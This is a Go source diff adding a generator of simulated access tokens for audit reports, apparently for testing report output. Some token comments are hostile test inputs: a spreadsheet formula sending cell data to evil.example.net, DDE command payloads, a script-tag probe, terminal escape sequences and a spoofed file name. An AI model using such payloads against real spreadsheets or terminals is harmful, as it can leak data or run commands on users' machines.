@@ -280,3 +280,289 @@ func furnishOther(ws *workspace, i int) {
 func tokenIDOf(value string) tokenID { return sha256.Sum256([]byte(value)) }
 
 func repeatTo(unit string, size int) string { return strings.Repeat(unit, size/len(unit)+1)[:size] }
+
+// Autoscope states of generated tokens.
+const (
+	autoscopeDisabled      = "AUTOSCOPE_STATE_DISABLED"
+	autoscopeRunning       = "AUTOSCOPE_STATE_RUNNING"
+	autoscopeCompleted     = "AUTOSCOPE_STATE_COMPLETED"
+	autoscopeBackfilled    = "AUTOSCOPE_STATE_BACKFILLED"
+	autoscopeUserSelected  = "AUTOSCOPE_STATE_USER_SELECTED"
+	autoscopeAPINotCovered = "AUTOSCOPE_STATE_API_NOT_COVERED"
+)
+
+// kind is one sort of token. The first tokens of a workspace are one of each
+// row, in order; the rest are drawn by weight.
+type kind struct {
+	name   string
+	weight int // relative share among the drawn tokens; 0 never drawn
+	owner  func(*generator) *principal
+	life   func(*generator, *token)
+	// comment is that of the one of the row; drawn tokens have ordinary ones.
+	comment func(*generator) string
+	scoping *scoping
+}
+
+// kinds is the catalogue; at most 40 rows, so that a workspace of 40 tokens has
+// them all. Hostile comments sit on tokens that break policy, because that is
+// where they reach reports.
+func kinds() []kind {
+	sql := []string{"sql", "unity-catalog"}
+	return []kind{
+		{name: "caller", owner: callersOwn, life: daily(90, 10), comment: text("patrol audit")},
+		{name: "healthy", weight: 600, life: healthy, comment: text("OPS-1234 nightly load")},
+		{name: "endless", weight: 40, life: lived(forever, 400, 1), comment: text(`=HYPERLINK("https://evil.example.net/?x="&A1,"renew")`)},
+		{name: "never-used-old", weight: 40, life: lived(90, 45, unused), comment: text("<script>alert(1)</script>")},
+		{name: "unused-over-90-days", weight: 60, life: lived(365, 200, 120), comment: text("+cmd|' /C calc'!A0")},
+		{name: "lifetime-365", weight: 30, life: lived(365, 60, 0), comment: text("@SUM(1+1)*cmd|' /C calc'!A0")},
+		{name: "lifetime-730", weight: 20, life: lived(730, 400, 2), comment: text("\x1b[31mred\x1b[0m alert\x1b[2J")},
+		{name: "expired", weight: 40, life: lived(60, 70, 20), comment: text("\x1b]8;;https://evil.example.net/\x1b\\link\x1b]8;;\x1b\\")},
+		{name: "secret-in-comment", weight: 3, owner: busy, life: healthy, comment: fakeSecret},
+		{name: "deactivated-owner", weight: 15, owner: inactive, life: lived(60, 30, 12), comment: text("invoice\u202Egpj.exe")},
+		{name: "departed-owner", weight: 8, owner: departed, life: lived(60, 30, 25), comment: text("left\x00over")},
+		{name: "on-behalf-of", weight: 30, owner: service, life: onBehalf, comment: text("OPS-77 deployment pipeline")},
+		{name: "expiring-soon", weight: 20, life: lived(60, 57, 0), comment: text("renew me")},
+		{name: "scope-authentication", weight: 3, owner: busy, life: healthy, comment: text("token broker"),
+			scoping: &scoping{scopes: []string{"authentication"}}},
+		{name: "lifetime-90-exactly", weight: 10, life: daily(90, 20), comment: text("90 days, not a second more")},
+		{name: "lifetime-90-and-30s", weight: 5, life: slightlyOver, comment: text("_x000D_ literal")},
+		{name: "issued-365-ten-days-left", weight: 10, life: lived(365, 355, 0), comment: text("DATA-9 yearly token")},
+		{name: "never-used-young", weight: 40, life: lived(60, 3, unused), comment: text("just created")},
+		{name: "rotation-leftover", weight: 8, life: lived(85, 50, 20), comment: text("airflow prod")},
+		{name: "rotation-successor", owner: sameOwner, life: lived(85, 20, 0), comment: sameComment},
+		{name: "contractor-owner", weight: 3, owner: contractor, life: lived(60, 20, 1), comment: text("vendor, access")},
+		{name: "nested-admin-owner", weight: 2, owner: nested, life: healthy, comment: text("break glass")},
+		{name: "deep-nested-admin-owner", weight: 2, owner: deepNested, life: healthy, comment: text("on call")},
+		{name: "owner-outside-workspace", weight: 1, owner: elsewhere, life: lived(60, 40, 35), comment: text("moved on")},
+		{name: "viewer", owner: viewer, life: daily(60, 5), comment: text("viewer laptop")},
+		{name: "scoped", weight: 10, owner: busy, life: healthy, comment: text("dashboard, read only"),
+			scoping: &scoping{scopes: sql, state: autoscopeUserSelected}},
+		{name: "autoscope-disabled", weight: 5, owner: busy, life: healthy, comment: text("autoscope off"),
+			scoping: &scoping{scopes: []string{"all-apis"}, state: autoscopeDisabled}},
+		{name: "autoscope-running", weight: 5, owner: busy, life: healthy, comment: text("autoscope observing"),
+			scoping: &scoping{scopes: []string{"all-apis"}, state: autoscopeRunning, inferred: sql}},
+		{name: "autoscope-completed", weight: 5, owner: busy, life: healthy, comment: text("autoscope done"),
+			scoping: &scoping{scopes: sql, state: autoscopeCompleted, inferred: sql}},
+		{name: "autoscope-backfilled", weight: 5, owner: busy, life: healthy, comment: text("autoscope from history"),
+			scoping: &scoping{scopes: []string{"all-apis"}, state: autoscopeBackfilled, backfill: []string{"jobs", "clusters"}}},
+		{name: "autoscope-not-covered", weight: 2, owner: busy, life: healthy, comment: text("autoscope impossible"),
+			scoping: &scoping{scopes: []string{"all-apis"}, state: autoscopeAPINotCovered}},
+		{name: "empty-comment", weight: 10, life: healthy, comment: text("")},
+		{name: "expiry-cliff", weight: 15, life: cliff, comment: text("\ttab first")},
+		{name: "expiry-cliff", life: cliff, comment: text("two\r\nlines")},
+		{name: "expiry-cliff", life: cliff, comment: text("🔥 emoji 👩‍💻 é")},
+		{name: "expiry-cliff", life: cliff, comment: text(`"quotes",commas;semicolons`)},
+		{name: "expiry-cliff", life: cliff, comment: longComment},
+		{name: "owner-with-many-tokens", weight: 15, owner: busy, life: healthy, comment: text("scratch 1")},
+		{name: "owner-with-many-tokens", owner: busy, life: healthy, comment: text("scratch 2")},
+		{name: "service-principal", weight: 40, owner: service, life: healthy, comment: text("self-service token")},
+	}
+}
+
+// generator makes the tokens of one workspace.
+type generator struct {
+	rng     *rand.Rand
+	now     int64
+	cast    *people
+	ws      *workspace
+	drawn   bool   // past the one-of-each part
+	last    *token // for the second half of a rotation
+	counter int
+}
+
+// fillTokens generates the workspace's tokens: one of each kind, then by weight.
+func fillTokens(a *Account, ws *workspace, cast *people, rng *rand.Rand) {
+	count := a.opts.Tokens
+	ws.tokens = newTokenStore(count)
+	g := &generator{rng: rng, now: a.born.UnixMilli(), cast: cast, ws: ws}
+	catalogue := kinds()
+	successor := indexOf(catalogue, "rotation-successor")
+	draw := wheel(catalogue)
+	block := make([]token, count) // one allocation for all
+	for i := range block {
+		k := &catalogue[min(i, len(catalogue)-1)]
+		if g.drawn = i >= len(catalogue); g.drawn {
+			k = &catalogue[draw[rng.IntN(len(draw))]]
+			if g.last != nil && g.last.kind == "rotation-leftover" {
+				k = &catalogue[successor]
+			}
+		}
+		g.fill(&block[i], k)
+		ws.tokens.put(&block[i])
+	}
+}
+
+func indexOf(catalogue []kind, name string) int {
+	for i := range catalogue {
+		if catalogue[i].name == name {
+			return i
+		}
+	}
+	panic("simulator: no kind " + name)
+}
+
+// wheel repeats each index by its weight.
+func wheel(catalogue []kind) []int {
+	var w []int
+	for i, k := range catalogue {
+		for range k.weight {
+			w = append(w, i)
+		}
+	}
+	return w
+}
+
+func (g *generator) fill(t *token, k *kind) {
+	t.kind, t.scoping = k.name, k.scoping
+	t.id = g.tokenID(k)
+	p := g.anyone()
+	if k.owner != nil {
+		p = k.owner(g)
+	}
+	t.owner, t.creator = p.id, p
+	if !g.drawn || k.name == "rotation-successor" || k.name == "secret-in-comment" {
+		t.comment = k.comment(g)
+	} else {
+		t.comment = g.ordinaryComment()
+	}
+	k.life(g, t)
+	g.last = t
+}
+
+// tokenID makes the id from a value, as the service does. Values are not kept,
+// apart from those of the two tokens that clients use.
+func (g *generator) tokenID(k *kind) tokenID {
+	switch k.name {
+	case "caller":
+		return tokenIDOf(g.ws.adminToken)
+	case "viewer":
+		return tokenIDOf(g.ws.viewerToken)
+	}
+	var id tokenID
+	for i := 0; i < len(id); i += 8 {
+		v := g.rng.Uint64()
+		for j := range 8 {
+			id[i+j] = byte(v >> (8 * j))
+		}
+	}
+	return id
+}
+
+func pick(rng *rand.Rand, from []*principal) *principal { return from[rng.IntN(len(from))] }
+
+// firstOr is the leading one of a role for the one of its kind, and any for
+// drawn tokens.
+func (g *generator) firstOr(from []*principal) *principal {
+	if g.drawn {
+		return pick(g.rng, from)
+	}
+	return from[0]
+}
+
+func (g *generator) anyone() *principal { return pick(g.rng, g.cast.active) }
+
+func callersOwn(g *generator) *principal { return g.ws.admin }
+func viewer(g *generator) *principal     { return g.ws.viewer }
+func inactive(g *generator) *principal   { return pick(g.rng, g.cast.inactive) }
+func departed(g *generator) *principal   { return g.firstOr(g.cast.departed) }
+func service(g *generator) *principal    { return g.firstOr(g.cast.services) }
+func sameOwner(g *generator) *principal  { return g.last.creator }
+
+func nested(g *generator) *principal     { return g.special(g.cast.nested) }
+func deepNested(g *generator) *principal { return g.special(g.cast.deepNested) }
+func contractor(g *generator) *principal { return g.special(g.cast.contractor) }
+func elsewhere(g *generator) *principal  { return g.special(g.cast.elsewhere) }
+func busy(g *generator) *principal       { return g.firstOr(g.cast.busy) }
+
+// special hands a token to a particular person while that is plausible; in a
+// huge workspace one person would soon exceed the quota of live tokens.
+func (g *generator) special(p *principal) *principal {
+	if g.counter++; g.counter > tokenQuota/4 {
+		return g.anyone()
+	}
+	return p
+}
+
+const (
+	forever = -1 // lifetime
+	unused  = -1 // days since the last use
+)
+
+// lived makes a lifetime of so many days, aged so many, last used so many days
+// ago. Drawn tokens vary a little, to the same effect.
+func lived(lifeDays, ageDays, idleDays int64) func(*generator, *token) {
+	return func(g *generator, t *token) {
+		jitter := g.rng.Int64N(dayMillis / 2)
+		t.created = g.now - ageDays*dayMillis - jitter
+		t.expires = never
+		if lifeDays != forever {
+			t.expires = t.created + lifeDays*dayMillis
+		}
+		if idleDays != unused {
+			t.lastUsed = midnight(g.now - idleDays*dayMillis)
+		}
+	}
+}
+
+// daily is in use every day.
+func daily(lifeDays, ageDays int64) func(*generator, *token) { return lived(lifeDays, ageDays, 0) }
+
+// healthy lives 30 to 85 days, has at least 15 left and is in use.
+func healthy(g *generator, t *token) {
+	life := 30 + g.rng.Int64N(56)
+	age := g.rng.Int64N(life - 15)
+	lived(life, age, min(g.rng.Int64N(3), age))(g, t)
+}
+
+func slightlyOver(g *generator, t *token) {
+	lived(90, 15, 0)(g, t)
+	t.expires += 30 * 1000
+}
+
+// cliff expires in three weeks, on the same day as all of its kind.
+func cliff(g *generator, t *token) {
+	life := 40 + g.rng.Int64N(40)
+	t.expires = midnight(g.now) + 21*dayMillis + 8*60*60*1000 + g.rng.Int64N(8*60*60*1000)
+	t.created = t.expires - life*dayMillis
+	t.lastUsed = midnight(g.now)
+}
+
+// onBehalf was created by the admin for a service principal.
+func onBehalf(g *generator, t *token) {
+	healthy(g, t)
+	t.creator = g.ws.admin
+}
+
+func text(s string) func(*generator) string { return func(*generator) string { return s } }
+
+func sameComment(g *generator) string { return g.last.comment }
+
+// fakeSecret looks like a PAT. It is computed, for scanners of source code are
+// right to complain about literals.
+func fakeSecret(g *generator) string {
+	sum := sha256.Sum256(fmt.Appendf(nil, "fake %s %d", g.ws.name, g.rng.Uint64()))
+	return "backup of dapi" + hex.EncodeToString(sum[:16])
+}
+
+func longComment(*generator) string { return repeatTo("64 KiB of comment, ", 64<<10) }
+
+func (g *generator) ordinaryComment() string {
+	n := g.rng.IntN(9000) + 1000
+	switch g.rng.IntN(12) {
+	case 0, 1, 2:
+		return fmt.Sprintf("OPS-%d nightly load", n)
+	case 3, 4:
+		return fmt.Sprintf("DATA-%d dashboard refresh", n)
+	case 5:
+		return fmt.Sprintf("INFRA-%d terraform", n)
+	case 6, 7:
+		return "laptop"
+	case 8:
+		return "notebook sync"
+	case 9:
+		return fmt.Sprintf("ci run %d", n)
+	case 10:
+		return ""
+	}
+	return "databricks-connect"
+}
